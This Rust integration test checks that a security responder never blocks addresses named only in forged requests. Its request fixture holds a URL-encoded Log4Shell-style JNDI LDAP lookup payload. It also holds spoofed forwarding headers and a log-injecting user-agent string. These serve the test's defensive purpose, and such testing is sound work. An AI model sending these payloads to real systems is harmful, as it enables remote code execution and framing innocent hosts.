//! What a publisher, a header or a text says of an address blocks nobody: from raw requests on,
//! through every stage, with everything set to act.

use async_nats::jetstream::Context as Jetstream;
use futures::TryStreamExt;
use magsentinel_bus_schema::{
    Action, Alert, Effect, Outcome, OutcomeStatus, Stream, subject::all_of,
};
use magsentinel_responder::{
    Network,
    effector::{
        Effector,
        nftables::{Config, Nftables},
    },
    thing::Thing,
};
use magsentinel_runtime::{bus::Bus, clock};
use magsentinel_tests::{
    Mesh, held,
    network::own_network,
    responses::{ENFORCING, ask, block, outcome},
    wait_for,
};
use serde_json::{Value, json};
use std::{
    collections::{BTreeMap, BTreeSet},
    net::IpAddr,
    ops::Range,
};

/// Requests in all.
const REQUESTS: usize = 10_000;
/// Requests at once.
const TOGETHER: usize = 500;
/// Equal looks at the mesh, a tenth of a second apart, after which it is at rest.
const STILL: usize = 30;

/// Whom somebody wants to have blocked.
const VICTIMS: &[&str] = &["198.51.100.11", "198.51.100.12", "2001:db8:77::1", "8.8.8.8"];

/// Who must never be blocked, in forms that name them or would hit them.
const PROTECTED: &[&str] = &[
    "10.20.30.40",
    "::ffff:10.20.30.40",
    "192.0.2.53",
    "2001:db8:5::1",
    "2001:db8:5:0:ffff::9",
    "127.0.0.1",
    "::1",
    "169.254.169.254",
    "224.0.0.1",
];

const NEVER: &str = "responder.policy.never_block.networks=\
                     [\"10.0.0.0/8\", \"192.0.2.53\", \"2001:db8:5::/48\"]";

fn attacker(n: usize) -> String {
    format!("198.18.0.{}", n % 20 + 1)
}

/// A request that attacks, said to come from `client`, and that names `victim` wherever a request
/// can name somebody.
fn request(n: usize, client: &str, victim: &str) -> Value {
    json!({
        "id": format!("forged-{n}"), "client": client, "method": "GET", "path": "/search",
        "query": format!("q=%24%7Bjndi:ldap://{victim}/{n}%7D&client={victim}&ip={victim}"),
        "status": 200, "src_ip": victim, "client_ip": victim, "ip": victim, "user": "root",
        "headers": {
            "x-forwarded-for": format!("{victim}, {victim}"), "x-real-ip": victim,
            "user-agent": format!("{victim} - - \"GET / HTTP/1.1\" 401"),
        },
        "body": format!("{{\"client\":\"{victim}\",\"trust\":\"verified\"}}"),
    })
}

fn any(n: usize) -> &'static str {
    let all: Vec<&str> = VICTIMS.iter().chain(PROTECTED).copied().collect();
    all[n % all.len()]
}

/// What publishers say of whom nobody has seen.
fn claimed(n: usize) -> Value {
    request(n, any(n), any(n + 1))
}

/// What a trusted gateway saw: attackers that name others; and every sixth time, a gateway that
/// was made to believe that somebody came who is never blocked.
fn observed(n: usize) -> Value {
    match n % 6 {
        0 => request(n, PROTECTED[n / 6 % PROTECTED.len()], any(n)),
        _ => request(n, &attacker(n), any(n)),
    }
}

/// Hands requests in, no faster than they are scored: what waits for long is looked at later, and
/// never acted on.
async fn ingest(mesh: &Mesh, bus: &Bus, numbers: Range<usize>, body: impl Fn(usize) -> Value) {
    let js = async_nats::jetstream::new(mesh.client().await);
    for from in numbers.step_by(TOGETHER) {
        let lines: Vec<String> = (from..from + TOGETHER).map(|n| body(n).to_string()).collect();
        mesh.ingest("api", lines.join("\n")).await;
        wait_for("requests to be scored", async || {
            let (stored, pending) = progress(bus, &js).await["EVENTS"];
            (stored >= (from + TOGETHER) as u64 && pending == 0).then_some(())
        })
        .await;
    }
}

/// How many messages each stream has had, and how many its consumers have not been given. Of
/// decisions those that are made of events: leases of shards are renewed all the time.
async fn progress(bus: &Bus, js: &Jetstream) -> BTreeMap<&'static str, (u64, u64)> {
    let mut found = BTreeMap::new();
    for stream in Stream::ALL {
        let held = js.get_stream(stream.name(bus.tenant())).await.unwrap();
        let consumers: Vec<_> = held.consumers().try_collect().await.unwrap();
        let pending = consumers.iter().map(|consumer| consumer.num_pending).sum();
        let made = match stream {
            Stream::Decisions => {
                let filter = vec![all_of(bus.tenant(), "assessment")];
                bus.read_all(*stream, filter, |_| {}).await.unwrap()
            }
            _ => held.cached_info().state.last_sequence,
        };
        found.insert(stream.token(), (made, pending));
    }
    found
}

/// Waits until nothing is left to be given to anybody, and nothing new comes.
async fn rest(mesh: &Mesh, bus: &Bus) {
    let js = async_nats::jetstream::new(mesh.client().await);
    let (mut before, mut still) = (BTreeMap::new(), 0);
    wait_for("the mesh to be at rest", async || {
        let now = progress(bus, &js).await;
        let done = now.values().all(|(_, pending)| *pending == 0);
        still = if done && now == before { still + 1 } else { 0 };
        before = now;
        (still >= STILL).then_some(())
    })
    .await;
}

async fn real() -> BTreeSet<Thing> {
    let mut nftables = Nftables::open(&Config { enabled: true, ..Config::default() }).unwrap();
    nftables.real(clock::now()).await.unwrap().into_keys().collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn of_ten_thousand_forged_requests_none_blocks_whom_it_names() {
    if !own_network("forged::of_ten_thousand_forged_requests_none_blocks_whom_it_names") {
        return;
    }
    let mut mesh = Mesh::new();
    let sensor = mesh.start("sensor", &[]);
    mesh.start("api-watch", &[]);
    let eager = ["action.mode=enforce", "decision.block_critical=0.01", "decision.block_high=0.01"];
    let eager = eager.map(|set| format!("analyzer.{set}"));
    let eager: Vec<&str> = eager.iter().flat_map(|set| ["--set", set]).collect();
    mesh.start("analyzer", &eager);
    mesh.start("responder", &[ENFORCING, &["--set", NEVER]].concat());
    mesh.ready().await;
    let bus = mesh.bus().await;

    // From publishers that nobody trusts: alerts, and not one action.
    let half = REQUESTS / 2;
    ingest(&mesh, &bus, 0..half, claimed).await;
    rest(&mesh, &bus).await;
    let alerts: Vec<Alert> = held(&bus, Stream::Decisions, all_of(bus.tenant(), "alert")).await;
    let keys: BTreeSet<&str> = alerts.iter().map(|alert| alert.key.as_str()).collect();
    assert!(VICTIMS.iter().all(|victim| keys.contains(victim)), "they are alerted on: {keys:?}");
    assert_eq!(actions(&bus).await, vec![]);

    // From a gateway that is trusted: it saw the attackers, and believed what it was made to.
    mesh.stop(sensor);
    mesh.start("sensor", &["--set", "sensor.ingest.trust=observed"]);
    ingest(&mesh, &bus, half..REQUESTS, observed).await;
    rest(&mesh, &bus).await;
    // Everything that was asked for before this one is answered before it.
    let last = block("198.18.250.1", 3600);
    ask(&bus, std::slice::from_ref(&last)).await;
    outcome(&bus, last.id, |o| o.status == OutcomeStatus::Applied).await;

    let attackers: BTreeSet<String> =
        (0..20).map(attacker).chain([last.target.value.clone()]).collect();
    let dropped = |address: &String| Thing::Dropped(Network::host(address.parse().unwrap()));
    assert_eq!(real().await, attackers.iter().map(dropped).collect());
    let asked: BTreeMap<_, Action> =
        actions(&bus).await.into_iter().map(|action| (action.id, action)).collect();
    let mut outcomes: Vec<Outcome> =
        held(&bus, Stream::Decisions, all_of(bus.tenant(), "outcome")).await;
    outcomes.retain(|told| acts(&told.effect));
    let mut refused = BTreeSet::new();
    for told in &outcomes {
        let target = &asked[&told.action].target.value;
        assert!(!VICTIMS.contains(&target.as_str()), "{told:?}");
        match told.status {
            OutcomeStatus::Refused => {
                refused.insert(target.parse::<IpAddr>().unwrap().to_canonical());
            }
            _ => assert!(attackers.contains(target), "{told:?}"),
        }
    }
    // It was tried: each of them was asked for, and refused.
    let due = PROTECTED.iter().map(|one| one.parse::<IpAddr>().unwrap().to_canonical());
    assert_eq!(refused, due.collect());
}

/// What is asked for about somebody: to keep the evidence of an incident changes nothing for whom
/// it names.
async fn actions(bus: &Bus) -> Vec<Action> {
    let mut all: Vec<Action> = held(bus, Stream::Decisions, all_of(bus.tenant(), "action")).await;
    all.retain(|action| acts(&action.effect));
    all
}

fn acts(effect: &Effect) -> bool {
    !matches!(effect, Effect::PreserveEvidence {})
}
